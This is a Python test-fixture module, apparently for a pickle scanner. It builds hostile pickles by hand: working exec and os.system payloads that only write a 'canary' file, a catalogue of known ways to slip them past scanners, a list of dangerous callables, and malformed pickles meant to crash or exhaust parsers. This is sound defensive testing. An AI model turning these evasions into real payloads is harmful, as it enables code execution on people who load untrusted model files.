"""Hostile pickles, built byte by byte: published ways around scanners, and our own.

Each would, if a real unpickler read it, call something that no file of weights calls. ``live`` ones leave a file named
``canary`` in the working directory; a test proves it on a child process, so that none of them is a straw man.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile

TOUCH = "open('canary', 'w').close()"
SHELL = "echo > canary"

# what has been used to execute code from a pickle: by name, as module and attribute
CALLABLES = """
builtins eval|builtins exec|builtins compile|builtins getattr|builtins __import__|builtins open|builtins breakpoint
builtins input|os system|posix system|nt system|os popen|os execv|os execve|os spawnl|os posix_spawn|os remove
os putenv|os kill|subprocess Popen|subprocess call|subprocess run|subprocess check_output|subprocess getoutput
commands getoutput|pty spawn|runpy run_path|runpy _run_code|runpy run_module|code interact
code InteractiveInterpreter|codeop compile_command|importlib import_module|importlib.machinery SourceFileLoader
imp load_source|pkgutil resolve_name|zipimport zipimporter|shutil rmtree|shutil copyfile|tempfile mkstemp|io FileIO
_io open|pathlib Path.write_text|linecache getlines|socket create_connection|urllib.request urlopen
urllib.request urlretrieve|http.client HTTPConnection|ftplib FTP|smtplib SMTP|requests get|webbrowser open
antigravity geohash|telnetlib Telnet|asyncio.unix_events _UnixSubprocessTransport._start|ctypes CDLL
ctypes.util find_library|cffi FFI|sqlite3 connect|_ctypes dlopen|mmap mmap|pickle loads|_pickle loads|marshal loads
shelve open|dill loads|cloudpickle loads|joblib load|numpy load|pandas read_pickle|torch load
torch.serialization load|torch.storage _load_from_bytes|torch.hub load|torch.jit load|torch.package PackageImporter
torch.utils._config_module load_config|torch.utils.bottleneck.__main__ run_cprofile|torch.utils.collect_env run
torch.jit.unsupported_tensor_ops execWrapper|torch._dynamo.guards GuardBuilder.get
torch.utils.data.datapipes.utils.decoder basichandlers
torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_guards_expression|torch._inductor.codecache compile_file
torch.distributed.run main|torch.utils.cpp_extension load_inline|torch.multiprocessing.spawn _wrap
torch._utils.os system|numpy.testing._private.utils runstring|numpy.f2py.crackfortran myeval
numpy.f2py.diagnose run_command|numpy.distutils.exec_command exec_command|functools partial|functools reduce
operator attrgetter|operator methodcaller|operator itemgetter|itertools starmap|types FunctionType|types CodeType
timeit timeit|timeit main|cProfile run|cProfile runctx|profile run|pdb run|bdb Bdb.run|trace Trace.run
doctest debug_script|idlelib.pyshell ModifiedInterpreter.runcode|idlelib.run Executive.runcode
lib2to3.pgen2.pgen ParserGenerator.make_label|test.support.script_helper assert_python_ok|venv create
ensurepip _run_pip|pip main|setuptools setup|distutils.core run_setup|logging.config fileConfig
logging.config listen|signal signal|atexit register|threading Thread|multiprocessing.util spawnv_passfds
concurrent.futures.process ProcessPoolExecutor|gc get_objects|inspect currentframe|sys settrace|sys setprofile
site addsitedir|collections namedtuple|dataclasses make_dataclass|enum Enum|string Formatter.vformat|re Scanner
xmlrpc.client ServerProxy
""".replace("\n", "|")


def named(module: str, attribute: str, argument: str = "x") -> bytes:
    """GLOBAL, one string argument, REDUCE, in the text of protocol 0."""
    return f"c{module}\n{attribute}\n(S{argument!r}\ntR.".encode()


def short(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def stack_global(module: str, attribute: str) -> bytes:
    return short(module) + short(attribute) + b"\x93"


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


class _Reduce:
    def __reduce__(self):
        return exec, (TOUCH,)


def by_name() -> dict[str, bytes]:
    pairs = [entry.rsplit(" ", 1) for entry in CALLABLES.split("|") if entry.strip()]
    return {f"{module}.{attribute}": named(module, attribute) for module, attribute in pairs}


def live() -> dict[str, bytes]:
    """Hostile pickles that leave the canary when read by an unpickler of Python."""
    P = b"\x80\x04"
    run, touch, shell = stack_global("builtins", "exec"), short(TOUCH), short(SHELL)
    system = stack_global("os", "system")
    found = {f"reduce, protocol {p}": pickle.dumps(_Reduce(), protocol=p) for p in range(6)}
    found |= {
        "exec by STACK_GLOBAL": P + call(run, touch) + b".",
        "eval of an import": named("builtins", "eval", f"__import__('os').system({SHELL!r})"),
        "shell": P + call(system, shell) + b".",
        "breaks off after the call": P + call(system, shell),
        "garbage after the call": P + call(system, shell) + b"\xff\xff\xff",
        "the result is thrown away": P + call(system, shell) + b"0}.",
        "hidden in a dictionary of weights": P + b"}" + short("weight") + call(run, touch) + b"s.",
        "names through the memo": P + b"\x8c\x04exec\x940\x8c\x08builtins\x940h\x01h\x00\x93" + b"(" + touch + b"tR.",
        "names through PUT and GET": b"Vexec\np5\n0Vbuiltins\np7\n0g7\ng5\n\x93(V" + TOUCH.encode() + b"\ntR.",
        "names doubled by DUP": P + short("builtins") + b"2" + b"0" + short("exec") + b"\x93(" + touch + b"tR.",
        "INST": b"(S" + repr(SHELL).encode() + b"\nios\nsystem\n.",
        "OBJ": b"(" + b"cos\nsystem\n" + b"S" + repr(SHELL).encode() + b"\no.",
        "escaped letters": b"cos\nsystem\n(S'\\x65cho > canary'\ntR.",
        "an escaped name": b"\x80\x04" + b"S'builtin\\x73'\nS'e\\x78ec'\n\x93(" + touch + b"tR.",
        "a name computed by a call": P
        + call(stack_global("builtins", "str"), short("os")) + b"\x94" + short("system") + b"\x93(" + shell + b"tR.",
        "a dotted attribute": P + call(stack_global("os", "path.os.system"), shell) + b".",
        "an alias inside torch": P + call(stack_global("torch._utils", "torch.os.system"), shell) + b".",
        "an allowed class as the way in": P
        + call(stack_global("builtins", "getattr"), stack_global("collections", "OrderedDict"), short("fromkeys")) + b"0"
        + call(run, touch) + b".",
        "map, made to run by list": P
        + call(stack_global("builtins", "list"), call(stack_global("builtins", "map"), run, b"]" + touch + b"a")) + b".",
        "nested unpickling": P
        + call(stack_global("pickle", "loads"), b"C" + bytes([len(inner := P + call(run, touch) + b".")]) + inner) + b".",
        "BUILD into a namespace": P
        + stack_global("types", "SimpleNamespace") + b")\x81}" + short("a") + call(run, touch) + b"sb.",
        "a wrong frame around it": P + b"\x95" + struct.pack("<Q", len(body := call(run, touch) + b".")) + body,
        "a proto opcode in the middle": P + b"}0\x80\x02" + call(run, touch) + b".",
        "a harmless pickle first": pickle.dumps({}) + P + call(run, touch) + b".",
    }  # fmt: skip
    return found


def broken() -> dict[str, bytes]:
    """Bytes that mean to crash, hang or exhaust whoever walks them."""
    P = b"\x80\x04"
    return {
        "no stop": P + b"}",
        "empty stack": P + b"R.",
        "mark for a value": P + b"(R.",
        "endless marks": P + b"(" * 200_000 + b".",
        "endless nesting": P + b"]" * 50_000 + b"a" * 49_999 + b".",
        "memo before it is written": P + b"h\x05.",
        "huge memo index": P + b"}r\xff\xff\xff\x7f.",
        "a string longer than the file": P + b"\x8d" + struct.pack("<Q", 1 << 62) + b"x",
        "bytes longer than the file": P + b"\x8e" + struct.pack("<Q", (1 << 63) - 1) + b"x",
        "a negative length": P + b"T" + struct.pack("<i", -5) + b"x.",
        "a frame longer than the file": P + b"\x95" + struct.pack("<Q", 1 << 60),
        "an integer of a million digits": b"I" + b"9" * 1_000_000 + b"\n.",
        "a long of negative size": P + b"\x8b" + struct.pack("<i", -1) + b".",
        "an unknown opcode": P + b"\xfe.",
        "a protocol of the future": b"\x80\xff.",
        "an extension": P + b"\x82\x01.",
        "an extension of four bytes": P + b"\x84\x01\x00\x00\x00.",
        "laughs doubled by the memo": P + b"]" + b"".join(b"\x94h%ch%c\x86" % (i, i) for i in range(60)) + b".",
        "text that is no text": P + b"X" + struct.pack("<I", 2) + b"\xff\xfe.",
        "an unfinished line": b"cos\nsystem",
        "a name with a newline missing": b"cos",
        "three million opcodes": P + b"N0" * 1_500_000 + b"N.",
    }  # fmt: skip


def checkpoint(pickle_bytes: bytes, name: str = "archive/data.pkl", **extra: bytes) -> bytes:
    """A zip like torch's around a pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(name, pickle_bytes)
        archive.writestr("archive/version", b"3\n")
        for key, value in extra.items():
            archive.writestr(key, value)
    return buffer.getvalue()
